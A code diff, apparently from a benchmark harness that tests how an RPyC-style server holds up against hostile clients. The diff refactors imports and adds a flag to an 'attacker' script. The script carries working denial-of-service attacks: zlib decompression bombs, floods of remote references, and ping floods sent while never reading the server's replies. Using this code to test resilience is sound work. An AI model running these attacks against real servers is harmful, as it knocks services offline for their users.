@@ -9,27 +9,17 @@
 import net, { type Socket } from "node:net";
 import tls from "node:tls";
 import { deflateSync } from "node:zlib";
-import { type PyValue, type PyValueIn } from "../../runtime/index.js";
+import type { PyValue, PyValueIn } from "../../runtime/index.js";
 import { dump, FrameDecoder, load } from "../../runtime/wire/index.js";
-import {
-  HANDLE_CALLATTR,
-  HANDLE_GETROOT,
-  HANDLE_PING,
-  LABEL_LOCAL_REF,
-  LABEL_REMOTE_REF,
-  LABEL_TUPLE,
-  LABEL_VALUE,
-  MSG_REPLY,
-  MSG_EXCEPTION,
-  MSG_REQUEST,
-} from "../../runtime/wire/consts.js";
+import * as C from "../../runtime/wire/consts.js";
 import { TAG_EMPTY_STR, TAG_EMPTY_TUPLE, TAG_FSET, TAG_STR1, TAG_STR_L4, TAG_TUP_L4 } from "../../runtime/wire/brine.js";
 import { cli, emitJson, sleep } from "../harness.js";
 
-const { values } = cli("attacker.ts --attack 1-9 --port N [--quick]", {
+const { values } = cli("attacker.ts --attack 1-9 --port N [--quick --watch-stdin]", {
   attack: { type: "string" },
   port: { type: "string" },
   quick: { type: "boolean", default: false },
+  "watch-stdin": { type: "boolean", default: false },
 });
 const attack = Number(values.attack);
 const port = Number(values.port);
@@ -53,11 +43,11 @@ function frame(body: Uint8Array, flag = 0): Uint8Array[] {
   return [header, body, Buffer.from("\n")];
 }
 
-const request = (seq: number, handler: number, boxedArgs: PyValueIn): Buffer => dump([MSG_REQUEST, seq, [handler, boxedArgs]]);
+const request = (seq: number, handler: number, boxedArgs: PyValueIn): Buffer => dump([C.MSG_REQUEST, seq, [handler, boxedArgs]]);
 
 /** CALLATTR on the server's root: (root, name, args, kwargs), boxed as RPyC boxes them. */
 const callattr = (seq: number, root: PyValue, name: string, boxedArgs: PyValueIn): Buffer =>
-  request(seq, HANDLE_CALLATTR, [LABEL_TUPLE, [[LABEL_LOCAL_REF, root], [LABEL_VALUE, name], boxedArgs, [LABEL_VALUE, []]]]);
+  request(seq, C.HANDLE_CALLATTR, [C.LABEL_TUPLE, [[C.LABEL_LOCAL_REF, root], [C.LABEL_VALUE, name], boxedArgs, [C.LABEL_VALUE, []]]]);
 
 /** Stands for a big value in a dumped message; `splice` puts the hand-built brine bytes there. */
 const MARK = Buffer.from("<hostile-bench-mark>");
@@ -98,7 +88,7 @@ class Wire {
       try {
         for (const payload of decoder.push(chunk)) {
           const [msg, seq, args] = load(payload) as readonly PyValue[];
-          if (msg !== MSG_REPLY && msg !== MSG_EXCEPTION) continue; // e.g. Python's HANDLE_DEL requests
+          if (msg !== C.MSG_REPLY && msg !== C.MSG_EXCEPTION) continue; // e.g. Python's HANDLE_DEL requests
           if (seq === 0 && Array.isArray(args)) this.root = (args as readonly PyValue[])[1];
           else this.answered++;
         }
@@ -143,7 +133,7 @@ async function open(): Promise<Wire> {
     socket.once("error", reject);
   });
   const wire = new Wire(socket);
-  await wire.write(frame(request(0, HANDLE_GETROOT, [LABEL_VALUE, []])));
+  await wire.write(frame(request(0, C.HANDLE_GETROOT, [C.LABEL_VALUE, []])));
   if ((await wire.until(() => wire.root !== undefined, 10_000)) !== "done") throw new Error("the server sent no root");
   return wire;
 }
@@ -187,10 +177,12 @@ async function neverAnswer(): Promise<void> {
   wire.socket.pause(); // never read again: the server's writes to us back up
   const callbacks = n(1000);
   const calls = Array.from({ length: callbacks }, (_, i) =>
-    callattr(i + 1, wire.root!, "call_back", [LABEL_TUPLE, [[LABEL_REMOTE_REF, ["builtins.function", 1, i + 1]]]]),
+    callattr(i + 1, wire.root!, "call_back", [C.LABEL_TUPLE, [[C.LABEL_REMOTE_REF, ["builtins.function", 1, i + 1]]]]),
   );
   // 10-byte pings (payload): small seqs stay 1-byte ints; the server does not care that they repeat.
-  const batch = Buffer.concat(Array.from({ length: 4096 }, (_, i) => Buffer.concat(frame(request(i % 100, HANDLE_PING, [LABEL_VALUE, [Buffer.from("x")]])))));
+  const batch = Buffer.concat(
+    Array.from({ length: 4096 }, (_, i) => Buffer.concat(frame(request(i % 100, C.HANDLE_PING, [C.LABEL_VALUE, [Buffer.from("x")]])))),
+  );
   const pings = n(4_200_000);
   const deadline = performance.now() + 20_000 * scale;
   emit({ event: "start" });
@@ -238,7 +230,7 @@ async function renegotiate(): Promise<void> {
 }
 
 async function main(): Promise<void> {
-  const getAnswerWith = (body: Buffer) => (root: PyValue) => [frame(splice(callattr(1, root, "get_answer", [LABEL_VALUE, MARK]), body))];
+  const getAnswerWith = (body: Buffer) => (root: PyValue) => [frame(splice(callattr(1, root, "get_answer", [C.LABEL_VALUE, MARK]), body))];
   switch (attack) {
     case 1:
     case 2:
@@ -250,14 +242,14 @@ async function main(): Promise<void> {
     }
     case 4: {
       const count = n(250_000);
-      const refs = Array.from({ length: count }, (_, i) => [LABEL_REMOTE_REF, ["builtins.object", 1, i + 1]]);
-      return frames((root) => [frame(callattr(1, root, "get_answer", [LABEL_TUPLE, refs]))], `get_answer(*${count.toLocaleString("en-US")} remote refs)`);
+      const refs = Array.from({ length: count }, (_, i) => [C.LABEL_REMOTE_REF, ["builtins.object", 1, i + 1]]);
+      return frames((root) => [frame(callattr(1, root, "get_answer", [C.LABEL_TUPLE, refs]))], `get_answer(*${count.toLocaleString("en-US")} remote refs)`);
     }
     case 5: {
       const size = n(63_000_000);
       const build = (root: PyValue): Uint8Array[][] =>
         Array.from({ length: 8 }, (_, i) =>
-          frame(deflateSync(splice(callattr(i + 1, root, "get_answer", [LABEL_VALUE, [MARK]]), repeated(TAG_STR_L4, size, [0])), { level: 9 }), 1),
+          frame(deflateSync(splice(callattr(i + 1, root, "get_answer", [C.LABEL_VALUE, [MARK]]), repeated(TAG_STR_L4, size, [0])), { level: 9 }), 1),
         );
       return frames(build, `8 pipelined zlib frames, each get_answer(<${mb(size)} of zeros>)`);
     }
@@ -271,7 +263,7 @@ async function main(): Promise<void> {
       const count = 99_000;
       const body = repeated(TAG_TUP_L4, count, [TAG_STR1, 0x41]);
       return sustained(
-        (root, seq) => frame(splice(callattr(seq, root, "get_answer", [LABEL_VALUE, MARK]), body)),
+        (root, seq) => frame(splice(callattr(seq, root, "get_answer", [C.LABEL_VALUE, MARK]), body)),
         5,
         `get_answer(*${count.toLocaleString("en-US")} × b"A")`,
       );
@@ -280,7 +272,7 @@ async function main(): Promise<void> {
       const size = n(63_000_000);
       const body = repeated(TAG_STR_L4, size, [0]);
       return sustained(
-        (root, seq) => frame(deflateSync(splice(callattr(seq, root, "get_answer", [LABEL_VALUE, [MARK]]), body)), 1),
+        (root, seq) => frame(deflateSync(splice(callattr(seq, root, "get_answer", [C.LABEL_VALUE, [MARK]]), body)), 1),
         5,
         `zlib get_answer(<${mb(size)} of zeros>)`,
       );
